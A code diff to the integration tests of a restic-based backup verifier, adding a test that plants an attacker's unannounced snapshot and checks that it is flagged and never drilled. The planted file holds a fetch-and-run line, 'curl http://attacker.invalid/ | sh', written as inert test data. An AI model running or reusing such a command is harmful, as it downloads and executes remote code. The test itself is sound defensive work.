@@ -4,11 +4,18 @@ signing key and keys that may only add objects under its own evidence prefix."""
 
 from __future__ import annotations
 
+import json
+import os
 import shutil
+import subprocess
+import uuid
+from datetime import datetime
 
 import pytest
 from botocore.exceptions import ClientError
 
+from backupd import manifest
+from backupd.credentials import read_credentials
 from demo.seaweed import VERIFIER_HOST
 from tests.integration.conftest import ROOT, Setup
 
@@ -40,11 +47,20 @@ VERIFIER_SECRETS = ("s3-auditor.env", "s3-verifier.env", "s3-canary.env", "resti
 
 
 @pytest.fixture
-def pair(policy, stack, tmp_path):
-    """(backup host setup with both targets backed up, verifier setup on the same policy)."""
+def host():
+    """The backup host's name: its own per test, since its records are mirrored to the session's bucket."""
+    return f"vh-{uuid.uuid4().hex[:8]}"
+
+
+@pytest.fixture
+def pair(policy, stack, tmp_path, host):
+    """(backup host setup with both targets backed up and its records mirrored to WORM, verifier setup on the
+    same policy that reads that host's snapshots)."""
     env = stack.env
     main = policy(TARGETS.format(root=env["TOS_ROOT"], pghost=env["TOS_PGHOST"], pgport=env["TOS_PGPORT"],
-                                 pguser=env["TOS_PGUSER"]), REPO, restore_tests=f"'{ROOT / 'restore_tests'}'")
+                                 pguser=env["TOS_PGUSER"]), REPO, restore_tests=f"'{ROOT / 'restore_tests'}'",
+                  evidence="{mirror: worm}")
+    main.config.write_text(main.config.read_text().replace("host: it-host", f"host: {host}"))
     policy_file = tmp_path / "policies" / "test.yaml"
     text = policy_file.read_text().replace(
         "    credentials_file: s3-writer.env\n",
@@ -64,20 +80,21 @@ def pair(policy, stack, tmp_path):
     config = vdir / "verifier.yaml"
     config.write_text("\n".join([
         "role: verifier", f"policies: ['{tmp_path / 'policies'}/*.yaml']", f"state_dir: '{vdir / 'state'}'",
-        f"secrets_dir: '{secrets}'", f"host: {VERIFIER_HOST}", "hosts: [it-host]",
+        f"secrets_dir: '{secrets}'", f"host: {VERIFIER_HOST}", f"hosts: [{host}]",
         f"restore_tests: '{ROOT / 'restore_tests'}'",
         "evidence: {mirror: worm, credentials_file: s3-verifier.env}"]) + "\n")
     return main, Setup(stack, vdir, config)
 
 
-def test_a_verifier_with_read_only_keys_drills_both_targets_and_signs_with_its_own_key(pair, stack):
+def test_a_verifier_with_read_only_keys_drills_both_targets_and_signs_with_its_own_key(pair, stack, host):
     main, verifier = pair
     for target in ("v-programs", "v-tos-db"):
         run = verifier.cli("drill", "--full", "--target", target, "--json", timeout=1800)
         assert run.code == 0, run.stdout + run.stderr
         (drill,) = run.doc["drills"]
         assert drill["verdict"] == "PASS" and drill["verification"]["ok"], drill
-        assert drill["snapshot_host"] == "it-host"  # the backup host's snapshot, found by `hosts`
+        assert drill["snapshot_host"] == host  # the backup host's snapshot, found by `hosts`
+        assert drill["announcement"]["snapshot_id"] == drill["snapshot_id"] and drill["unannounced"] == []
         assert all(p["status"] == "ok" for p in drill["probes"]), drill["probes"]
     for target in ("v-programs", "v-tos-db"):  # the full drills just passed: nothing is due
         run = verifier.cli("drill", "--due", "--target", target, "--json")
@@ -140,3 +157,65 @@ def test_the_verifier_refuses_to_write_and_its_keys_cannot(pair, stack):
         with pytest.raises(ClientError) as err:
             stack.seaweed.client(identity).put_object(Bucket=stack.bucket, Key=key, Body=b"x")
         assert err.value.response["Error"]["Code"] == "AccessDenied", (identity, key)
+
+
+def _plant(stack, tmp_path, host: str) -> str:
+    """What an attacker holding the writer keys and the repository password can do without backupd: a restic
+    snapshot of the programs (plus an implant), with a manifest that matches its content, tagged exactly as
+    backupd tags that target's snapshots, dated now. Returns its id."""
+    env = {**os.environ, **read_credentials(stack.secrets_dir / "s3-writer.env"),
+           "RESTIC_REPOSITORY": f"s3:{stack.env['BACKUPD_S3_ENDPOINT']}/{stack.bucket}/{REPO}",
+           "RESTIC_PASSWORD_FILE": str(stack.secrets_dir / "restic-password")}
+    listed = subprocess.run(["restic", "snapshots", "--no-cache", "--json", "--tag", "target=v-programs",
+                             "--host", host], env=env, capture_output=True, text=True, check=True)
+    tags = [t for t in json.loads(listed.stdout)[-1]["tags"] if t != "suspect"]
+    implant = tmp_path / "planted" / "implant.sh"
+    implant.parent.mkdir()
+    implant.write_text("#!/bin/sh\ncurl http://attacker.invalid/ | sh\n")
+    paths = [f"{stack.env['TOS_ROOT']}/programs/production", str(implant.parent)]
+    entries = manifest.build(paths, [], manifest.HashCache(tmp_path / "planted-hashes.json"))
+    doc = manifest.document("v-programs", host, entries, {"files": len(entries),
+                                                          "bytes": sum(e.size for e in entries)})
+    staging = tmp_path / "planted-state" / "manifests" / "v-programs"
+    manifest.write(doc, staging)
+    done = subprocess.run(["restic", "backup", "--no-cache", "--json", "--host", host,
+                           *(a for t in tags for a in ("--tag", t)), *paths, str(staging)],
+                          env=env, capture_output=True, text=True, check=True)
+    # restic 0.14 reports an 8-digit id, 0.18 the full one
+    return [json.loads(line) for line in done.stdout.splitlines() if '"summary"' in line][-1]["snapshot_id"][:8]
+
+
+def _when(text: str) -> datetime:
+    return datetime.fromisoformat(text.replace("Z", "+00:00"))
+
+
+def test_a_snapshot_the_backup_host_never_announced_is_a_finding_never_drilled(pair, stack, tmp_path, host):
+    main, verifier = pair
+    planted = _plant(stack, tmp_path, host)
+
+    run = verifier.cli("drill", "--target", "v-programs", "--json")
+    (drill,) = run.doc["drills"]
+    assert run.code == 1, run.stdout + run.stderr  # a planted restore point is a finding
+    # the newest announced snapshot was drilled instead, and passed
+    assert not drill["snapshot_id"].startswith(planted) and drill["verdict"] == "PASS", drill.get("reason")
+    assert [u["snapshot_id"][:len(planted)] for u in drill["unannounced"]] == [planted], drill["unannounced"]
+    announced = drill["announcement"]
+    assert announced["snapshot_id"] == drill["snapshot_id"] and announced["host"] == host
+    # the verified RPO runs from the signed, mirrored backup record, not the snapshot's own time field
+    assert _when(drill["verified_snapshot_time"]) == _when(announced["time"])
+    assert _when(announced["time"]) > _when(drill["snapshot_time"])
+    # the finding is in the verifier's signed evidence too
+    ledger = (verifier.dir / "state" / "evidence" / "ledger.jsonl").read_text().splitlines()
+    recorded = [json.loads(line)["data"] for line in ledger if json.loads(line)["kind"] == "drill"]
+    assert recorded[-1]["unannounced"][0]["snapshot_id"].startswith(planted)
+
+    run = verifier.cli("drill", "--target", "v-programs", "--snapshot", planted[:12], "--json")
+    (drill,) = run.doc["drills"]
+    assert run.code == 1 and drill["verdict"] == "FAIL" and "not drilled" in drill["reason"], drill
+    assert drill.get("files_restored") is None  # nothing of it was restored
+
+    # a verifier that cannot find the host's mirrored ledger drills nothing: no fallback to the repository
+    verifier.config.write_text(verifier.config.read_text().replace(f"hosts: [{host}]", "hosts: [vh-nowhere]"))
+    run = verifier.cli("drill", "--target", "v-programs", "--json")
+    (drill,) = run.doc["drills"]
+    assert run.code == 1 and "no mirrored ledger of vh-nowhere" in drill["reason"], drill
